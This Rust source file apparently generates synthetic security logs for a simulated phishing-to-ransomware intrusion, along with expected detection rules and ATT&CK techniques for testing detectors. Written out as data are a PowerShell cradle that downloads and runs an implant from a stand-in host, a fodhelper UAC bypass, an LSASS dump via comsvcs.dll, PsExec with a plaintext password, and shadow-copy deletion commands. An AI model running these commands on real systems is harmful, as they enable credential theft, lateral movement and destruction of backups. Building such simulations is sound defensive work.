//! Scenario 1: a phishing mail with a macro document leads, in one morning, from Word
//! to encoded PowerShell, a beaconing implant, a UAC bypass, an LSASS dump, PsExec to
//! the file server with a service-desk admin's stolen password, and the deletion of the
//! file server's shadow copies (what ransomware operators do just before encrypting).

use serde_json::json;

use super::{Track, incident, strings, target};
use crate::Error;
use crate::activity::{Ctx, Mail, SecurityFields, Shift, mail_rows, security_event, shifts};
use crate::b64;
use crate::clock::{MINUTE, SECOND};
use crate::events::{self, Conn, Logon};
use crate::host::{Host, Session};
use crate::org::{NETBIOS, Role};
use crate::proc::{self, Account, Proc};
use crate::rng::digest_hex;
use crate::sink::Sink;
use crate::truth::Scenario;

pub const C2_IP: &str = "198.51.100.23";
pub const C2_DOMAIN: &str = "static-cdn-sync.example";
pub const SENDER_IP: &str = "203.0.113.45";
const SENDER: &str = "accounts@fastener-supp1y.example";
const PASSWORD: &str = "Helpd3sk!2026";

/// The working day of `user` closest to `days_back` days before the end, in the office.
pub fn pick_shift(ctx: &Ctx<'_>, user: usize, days_back: usize) -> Option<Shift> {
    let last = ctx.clock.days().len().saturating_sub(1);
    let target = last.saturating_sub(days_back);
    shifts(ctx, user)
        .into_iter()
        .filter(|s| !s.day.is_weekend() && !s.remote && s.end - s.start > 6 * 60 * MINUTE)
        .min_by_key(|s| (s.day.index as i64 - target as i64).abs())
}

fn f(pairs: &[(&'static str, &str)]) -> SecurityFields {
    pairs.iter().map(|(k, v)| (*k, (*v).to_string())).collect()
}

pub fn inject(ctx: &Ctx<'_>, sink: &mut Sink) -> Result<Option<Scenario>, Error> {
    let org = ctx.org;
    let cast = &org.cast;
    let victim = &org.users[cast.phish_victim];
    let admin = &org.users[cast.helpdesk_admin];
    let (Some(laptop), Some(shift)) = (
        org.user_device(victim.index),
        pick_shift(ctx, victim.index, 6),
    ) else {
        return Ok(None);
    };
    let fs = org.device(Role::FileServer);
    let mut rng = ctx.rng("scenario-phishing");
    let mut tr = Track::new(sink);
    let host = Host::of(ctx, laptop);
    let session = Session::of(ctx, &host, victim, &shift);
    let va = Account::of(victim);
    let aa = Account::of(admin);
    let home = format!("C:\\Users\\{}", victim.sam);

    // The day before, the service desk fixed a printer on the laptop over RDP: the
    // admin's credentials stay cached in LSASS.
    let helper_ws = admin
        .owner
        .and_then(|p| org.user_device(p))
        .unwrap_or(laptop);
    let cached_at = shift.start - 18 * 60 * MINUTE;
    let rdp = Logon {
        action: "LogonSuccess",
        logon_type: "RemoteInteractive",
        account: &aa,
        protocol: "Negotiate",
        logon_id: rng.range(0x100_0000, 0x7FF_FFFF),
        remote_ip: Some(&helper_ws.ip),
        remote_device: Some(&helper_ws.name),
        is_local_admin: true,
        failure: None,
    };
    tr.step(events::logon(laptop, cached_at, &host.lsass, &rdp), "The service-desk admin account logs on to the laptop over RDP (its credentials stay in LSASS)")?;

    // The mail, to the victim and two colleagues.
    let mail_t = session.start + 25 * MINUTE;
    let doc = "INV-20931.docm";
    let doc_sha = digest_hex(&["phish-doc", doc], 64);
    let mut recipients = vec![victim];
    recipients.extend(cast.phish_others.iter().map(|i| &org.users[*i]));
    for (k, to) in recipients.iter().enumerate() {
        let m = Mail {
            t: mail_t + k as i64 * 2 * SECOND,
            id: rng.guid(),
            from: SENDER.into(),
            from_name: "Fastener Supply Accounts".into(),
            sender_ip: SENDER_IP,
            to,
            subject: "Overdue invoice INV-20931 - second reminder".into(),
            direction: "Inbound",
            attachments: vec![(doc.into(), "docm".into(), doc_sha.clone(), 48_640)],
            urls: vec![],
            threat: "",
            delivery: ("Delivered", "Inbox/folder"),
            auth: ("pass", "none", "none"),
        };
        for row in mail_rows(&m, &mut rng) {
            if row.table == "EmailEvents" {
                tr.step(row, "A look-alike supplier domain sends a macro-enabled invoice; the filter delivers it")?;
            } else {
                tr.push(row)?;
            }
        }
    }

    // Opening the attachment.
    let t0 = mail_t + 14 * MINUTE;
    let cache =
        format!("{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3T9QX2M");
    let doc_path = format!("{cache}\\{doc}");
    tr.step(
        events::file(
            laptop,
            t0,
            &session.outlook,
            "FileCreated",
            &doc_path,
            &doc_sha,
            48_640,
        ),
        "Outlook saves the attachment to its cache",
    )?;
    let word = Proc::child(
        &session.outlook,
        &proc::WINWORD,
        rng.pid(),
        format!(
            "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{doc_path}\" /o \"\""
        ),
        t0 + 3 * SECOND,
    );
    tr.step(
        events::process_created(laptop, &word, &session.outlook),
        "Word opens the document",
    )?;
    let vbe = "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL";
    tr.step(
        events::image_load(
            laptop,
            t0 + 30 * SECOND,
            &word,
            vbe,
            &digest_hex(&["module", vbe], 64),
            3_900_000,
        ),
        "Word loads the VBA engine: the macro runs",
    )?;
    let trust_key = format!(
        "HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords",
        va.sid
    );
    let trust_value = format!(
        "%USERPROFILE%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/K3T9QX2M/{doc}"
    );
    tr.step(
        events::registry(
            laptop,
            t0 + 28 * SECOND,
            &word,
            "RegistryValueSet",
            &trust_key,
            Some((
                &trust_value,
                "Binary",
                "A0C2F3D1B6E8DA0100000000000000000000000001000000FFFFFF7F",
            )),
        ),
        "The user clicks Enable Content: Word records the document as trusted",
    )?;

    // The macro starts an encoded PowerShell download cradle.
    let script = format!(
        "$u='https://{C2_DOMAIN}/cdn/v2/update.bin';$d=\"$env:ProgramData\\Microsoft\\OneDriveUpdater\";New-Item -ItemType Directory -Force -Path $d|Out-Null;(New-Object Net.WebClient).DownloadFile($u,\"$d\\OneDriveUpdater.exe\");Start-Process \"$d\\OneDriveUpdater.exe\""
    );
    let ps_cmd = format!(
        "powershell.exe -NoP -NonI -W Hidden -Enc {}",
        b64::powershell(&script)
    );
    let ps = Proc::child(
        &word,
        &proc::POWERSHELL,
        rng.pid(),
        ps_cmd,
        t0 + 32 * SECOND,
    );
    tr.step(
        events::process_created(laptop, &ps, &word),
        "The macro starts PowerShell with an encoded command",
    )?;
    let mut pscmd = events::misc(
        laptop,
        t0 + 34 * SECOND,
        &ps,
        "PowerShellCommand",
        json!({"Command": "New-Object Net.WebClient"}),
    );
    pscmd.set("ProcessId", ps.pid);
    tr.push(pscmd)?;
    let c = Conn::out(laptop, C2_IP, 443, C2_DOMAIN, rng.range(49_152, 65_535));
    tr.step(
        events::network(laptop, t0 + 35 * SECOND, &ps, &c),
        "PowerShell downloads the implant from the attacker's server",
    )?;
    let implant_path = proc::BEACON.path;
    tr.step(
        events::file(
            laptop,
            t0 + 37 * SECOND,
            &ps,
            "FileCreated",
            implant_path,
            &proc::BEACON.sha256(),
            proc::BEACON.size,
        ),
        "The implant is written to ProgramData",
    )?;
    let beacon = Proc::child(
        &ps,
        &proc::BEACON,
        rng.pid(),
        format!("\"{implant_path}\""),
        t0 + 39 * SECOND,
    );
    tr.step(
        events::process_created(laptop, &beacon, &ps),
        "PowerShell starts the implant",
    )?;
    let run_key = format!(
        "HKEY_CURRENT_USER\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        va.sid
    );
    tr.step(
        events::registry(
            laptop,
            t0 + 50 * SECOND,
            &beacon,
            "RegistryValueSet",
            &run_key,
            Some(("OneDriveUpdater", "String", implant_path)),
        ),
        "The implant makes itself start at every logon (Run key)",
    )?;

    // Discovery through the implant's shell.
    let mut t = t0 + 18 * MINUTE;
    let shell = Proc::child(
        &beacon,
        &proc::CMD,
        rng.pid(),
        "C:\\Windows\\system32\\cmd.exe /c \"whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:tamarack.example\"",
        t,
    );
    tr.step(
        events::process_created(laptop, &shell, &beacon),
        "The attacker's shell runs discovery commands",
    )?;
    for (img, cmd) in [
        (&proc::WHOAMI, "whoami  /all".to_string()),
        (
            &proc::NET,
            "net  group \"Domain Admins\" /domain".to_string(),
        ),
        (
            &proc::NLTEST,
            "nltest  /dclist:tamarack.example".to_string(),
        ),
    ] {
        t += 2 * SECOND;
        let p = Proc::child(&shell, img, rng.pid(), cmd, t);
        tr.push(events::process_created(laptop, &p, &shell))?;
    }

    // UAC bypass through fodhelper's ms-settings handler.
    t = t0 + 31 * MINUTE;
    let ms = format!(
        "HKEY_CURRENT_USER\\{}\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
        va.sid
    );
    tr.push(events::registry(
        laptop,
        t,
        &beacon,
        "RegistryKeyCreated",
        &ms,
        None,
    ))?;
    tr.step(
        events::registry(
            laptop,
            t + SECOND,
            &beacon,
            "RegistryValueSet",
            &ms,
            Some(("(Default)", "String", implant_path)),
        ),
        "UAC bypass: the ms-settings handler is pointed at the implant",
    )?;
    tr.push(events::registry(
        laptop,
        t + SECOND,
        &beacon,
        "RegistryValueSet",
        &ms,
        Some(("DelegateExecute", "String", "")),
    ))?;
    let fod = Proc::child(
        &beacon,
        &proc::FODHELPER,
        rng.pid(),
        "\"C:\\Windows\\system32\\fodhelper.exe\"",
        t + 3 * SECOND,
    )
    .run_as(va.clone(), "High", session.logon_id + 1);
    tr.step(
        events::process_created(laptop, &fod, &beacon),
        "fodhelper.exe auto-elevates",
    )?;
    let elevated = Proc::child(
        &fod,
        &proc::BEACON,
        rng.pid(),
        format!("\"{implant_path}\""),
        t + 5 * SECOND,
    );
    tr.step(
        events::process_created(laptop, &elevated, &fod),
        "fodhelper starts the implant again, now with high integrity",
    )?;

    // Credential dumping with comsvcs.dll MiniDump.
    t = t0 + 47 * MINUTE;
    let dump = format!(
        "C:\\ProgramData\\Microsoft\\OneDriveUpdater\\{}.dmp",
        rng.hex(6)
    );
    let dumper = Proc::child(
        &elevated,
        &proc::RUNDLL32,
        rng.pid(),
        format!(
            "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {dump} full",
            host.lsass.pid
        ),
        t,
    );
    tr.step(
        events::process_created(laptop, &dumper, &elevated),
        "rundll32 runs comsvcs.dll MiniDump against LSASS",
    )?;
    let mut access = events::misc(
        laptop,
        t + SECOND,
        &dumper,
        "OpenProcessApiCall",
        json!({
            "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9fd74|C:\\Windows\\System32\\KERNELBASE.dll+3d6a1|C:\\Windows\\System32\\comsvcs.dll+3c0b9|C:\\Windows\\System32\\comsvcs.dll+3b4f2|C:\\Windows\\system32\\rundll32.exe+3bc4",
            "SourceUser": va.qualified(),
            "TargetUser": "NT AUTHORITY\\SYSTEM",
            "DesiredAccess": "0x1fffff",
        }),
    );
    access
        .set("FileName", "lsass.exe")
        .set("FolderPath", proc::LSASS.path)
        .set("ProcessId", host.lsass.pid)
        .time("ProcessCreationTime", host.lsass.created)
        .set("SHA256", proc::LSASS.sha256());
    tr.step(access, "rundll32 opens LSASS with full access")?;
    tr.step(
        events::file(
            laptop,
            t + 4 * SECOND,
            &dumper,
            "FileCreated",
            &dump,
            &digest_hex(&["dump", &dump], 64),
            58_720_256,
        ),
        "The LSASS memory dump is written",
    )?;

    // Lateral movement to the file server with the admin's password.
    t = t0 + 96 * MINUTE;
    let share = format!("\\\\{}\\ADMIN$", fs.name);
    let use_cmd = Proc::child(
        &elevated,
        &proc::CMD,
        rng.pid(),
        format!(
            "C:\\Windows\\system32\\cmd.exe /c net use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"",
            admin.sam
        ),
        t,
    );
    tr.push(events::process_created(laptop, &use_cmd, &elevated))?;
    let net = Proc::child(
        &use_cmd,
        &proc::NET,
        rng.pid(),
        format!(
            "net  use {share} /user:{NETBIOS}\\{} \"{PASSWORD}\"",
            admin.sam
        ),
        t + SECOND,
    );
    tr.step(
        events::process_created(laptop, &net, &use_cmd),
        "net use connects to the file server's ADMIN$ share with the stolen admin password",
    )?;
    let explicit = |process: &str, at: i64| {
        security_event(
            laptop,
            at,
            4648,
            &f(&[
                ("SubjectUserSid", &va.sid),
                ("SubjectUserName", &victim.sam),
                ("SubjectDomainName", NETBIOS),
                ("TargetUserName", &admin.sam),
                ("TargetDomainName", NETBIOS),
                ("TargetServerName", &fs.name),
                ("TargetInfo", &fs.name),
                ("ProcessName", process),
                ("IpAddress", &fs.ip),
                ("IpPort", "445"),
            ]),
        )
    };
    tr.step(
        explicit("C:\\Windows\\System32\\net.exe", t + 2 * SECOND),
        "Windows logs the use of the admin's explicit credentials",
    )?;
    let c = Conn::out(laptop, C2_IP, 443, C2_DOMAIN, rng.range(49_152, 65_535));
    tr.push(events::network(laptop, t + 40 * SECOND, &elevated, &c))?;
    tr.step(
        events::file(
            laptop,
            t + 45 * SECOND,
            &elevated,
            "FileCreated",
            proc::PSEXEC_DROPPED.path,
            &proc::PSEXEC_DROPPED.sha256(),
            proc::PSEXEC_DROPPED.size,
        ),
        "PsExec is downloaded to ProgramData",
    )?;
    let precursors = "vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no & bcdedit /set {default} bootstatuspolicy ignoreallfailures";
    let t_px = t + 2 * MINUTE;
    let px_shell = Proc::child(
        &elevated,
        &proc::CMD,
        rng.pid(),
        format!(
            "C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\PsExec64.exe \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"",
            fs.name, admin.sam
        ),
        t_px,
    );
    tr.push(events::process_created(laptop, &px_shell, &elevated))?;
    let psexec = Proc::child(
        &px_shell,
        &proc::PSEXEC_DROPPED,
        rng.pid(),
        format!(
            "C:\\ProgramData\\PsExec64.exe  \\\\{} -accepteula -u {NETBIOS}\\{} -p \"{PASSWORD}\" -h cmd.exe /c \"{precursors}\"",
            fs.name, admin.sam
        ),
        t_px + SECOND,
    );
    tr.step(
        events::process_created(laptop, &psexec, &px_shell),
        "PsExec runs a command on the file server as the admin",
    )?;
    tr.push(explicit(proc::PSEXEC_DROPPED.path, t_px + 2 * SECOND))?;
    let c = Conn::out(laptop, &fs.ip, 445, "", rng.range(49_152, 65_535));
    tr.push(events::network(laptop, t_px + 2 * SECOND, &psexec, &c))?;

    // On the file server.
    let ts = t_px + 3 * SECOND;
    target::file_server(
        ctx,
        &mut tr,
        &mut rng,
        &target::Move {
            from: laptop,
            to: fs,
            admin,
            account: &aa,
            psexec: &psexec,
            port: c.local_port,
            commands: precursors,
            at: ts,
        },
    )?;
    // The implant beacons every five minutes while the laptop is on, for three days;
    // after the first day it is started by the Run key at logon.
    let later: Vec<Shift> = shifts(ctx, victim.index)
        .into_iter()
        .filter(|s| s.day.index > shift.day.index)
        .take(2)
        .collect();
    let mut days = vec![(shift, beacon.clone())];
    for s in later {
        let sess = Session::of(ctx, &host, victim, &s);
        let p = Proc::child(
            &sess.explorer,
            &proc::BEACON,
            rng.pid(),
            format!("\"{implant_path}\""),
            sess.explorer.created + 25 * SECOND,
        );
        tr.push(events::process_created(laptop, &p, &sess.explorer))?;
        days.push((s, p));
    }
    let mut beacons = 0;
    for (s, p) in &days {
        let mut bt = p.created + 60 * SECOND;
        while bt < s.end {
            let c = Conn::out(laptop, C2_IP, 443, C2_DOMAIN, rng.range(49_152, 65_535));
            tr.push(events::network(laptop, bt, p, &c))?;
            beacons += 1;
            bt += 300 * SECOND + rng.range(-20, 20) * SECOND;
        }
    }

    let mut sc = tr.finish(
        "phishing-to-ransomware",
        "Phishing, macro, encoded PowerShell, C2, LSASS dump, PsExec, shadow copy deletion",
        true,
    );
    sc.summary = format!(
        "{} opens a macro-enabled invoice from a look-alike supplier domain on {}. The macro runs encoded PowerShell that installs an implant beaconing to {C2_DOMAIN} ({C2_IP}) every five minutes ({beacons} connections over {} working days). The attacker bypasses UAC with fodhelper, dumps LSASS with comsvcs.dll MiniDump, finds the cached password of {} and uses it with PsExec to reach {}, where shadow copies are deleted and Windows recovery is disabled: the last steps before ransomware.",
        victim.display,
        laptop.name,
        days.len(),
        admin.sam,
        fs.name
    );
    sc.devices = vec![laptop.name.clone(), fs.name.clone()];
    sc.users = vec![victim.upn.clone(), admin.upn.clone()];
    sc.ips = strings(&[C2_IP, SENDER_IP, &laptop.ip, &fs.ip]);
    sc.domains = strings(&[C2_DOMAIN, "fastener-supp1y.example"]);
    sc.techniques = strings(&[
        "T1566.001",
        "T1204.002",
        "T1059.001",
        "T1027",
        "T1105",
        "T1071.001",
        "T1547.001",
        "T1033",
        "T1069.002",
        "T1482",
        "T1548.002",
        "T1003.001",
        "T1078.002",
        "T1021.002",
        "T1570",
        "T1569.002",
        "T1490",
    ]);
    sc.tactics = strings(&[
        "InitialAccess",
        "Execution",
        "Persistence",
        "PrivilegeEscalation",
        "DefenseEvasion",
        "CredentialAccess",
        "Discovery",
        "LateralMovement",
        "CommandAndControl",
        "Impact",
    ]);
    sc.expected_rules = strings(&[
        "Suspicious Microsoft Office Child Process",
        "Suspicious Encoded PowerShell Command Line",
        "Suspicious PowerShell Encoded Command Patterns",
        "Suspicious Execution of Powershell with Base64",
        "HackTool - Empire PowerShell Launch Parameters",
        "Non Interactive PowerShell Process Spawned",
        "VBA DLL Loaded Via Office Application",
        "Macro Enabled In A Potentially Suspicious Document",
        "Windows Registry Trust Record Modification",
        "Office Macro File Creation",
        "Office Macro File Download",
        "Potential Binary Or Script Dropper Via PowerShell",
        "CurrentVersion Autorun Keys Modification",
        "Enumerate All Information With Whoami.EXE",
        "Local Accounts Discovery",
        "Suspicious Group And Account Reconnaissance Activity Using Net.EXE",
        "Nltest.EXE Execution",
        "Potential Recon Activity Via Nltest.EXE",
        "Shell Open Registry Keys Manipulation",
        "Bypass UAC via Fodhelper.exe",
        "Process Memory Dump Via Comsvcs.DLL",
        "Lsass Memory Dump via Comsvcs DLL",
        "Potential Credential Dumping Activity Via LSASS",
        "Potentially Suspicious Rundll32 Activity",
        "Windows Share Mount Via Net.EXE",
        "Windows Admin Share Mount Via Net.EXE",
        "Password Provided In Command Line Of Net.EXE",
        "System Network Connections Discovery Via Net.EXE",
        "Suspicious Remote Logon with Explicit Credentials",
        "Psexec Execution",
        "Potential PsExec Remote Execution",
        "Potential Execution of Sysinternals Tools",
        "PsExec Service File Creation",
        "PsExec Service Execution",
        "First Time Seen Remote Named Pipe",
        "Shadow Copies Deletion Using Operating Systems Utilities",
        "Boot Configuration Tampering Via Bcdedit.EXE",
    ]);
    let victim_key = format!("{}\\{}", NETBIOS.to_lowercase(), victim.sam);
    let admin_key = format!("{}\\{}", NETBIOS.to_lowercase(), admin.sam);
    sc.expected_incidents = vec![incident(
        &[&laptop.name, &fs.name],
        &[&victim_key, &admin_key],
        &[
            "Execution",
            "PrivilegeEscalation",
            "CredentialAccess",
            "LateralMovement",
            "Impact",
        ],
        "High",
        "at_least",
    )];
    sc.notes = vec![
        format!("{} and {} received the same mail and did not open it.", org.users[cast.phish_others[0]].upn, cast.phish_others.get(1).map(|i| org.users[*i].upn.as_str()).unwrap_or("")),
        "The beacon is visible as regular DeviceNetworkEvents connections to one address; no Sigma rule looks at that pattern, so it is found by hunting queries.".into(),
        format!("The Finance devices have the ASR rule 'Block all Office applications from creating child processes' in Audit mode only (IntuneDeviceConfiguration), which is why the macro could start PowerShell on {}.", laptop.host),
    ];
    Ok(Some(sc))
}
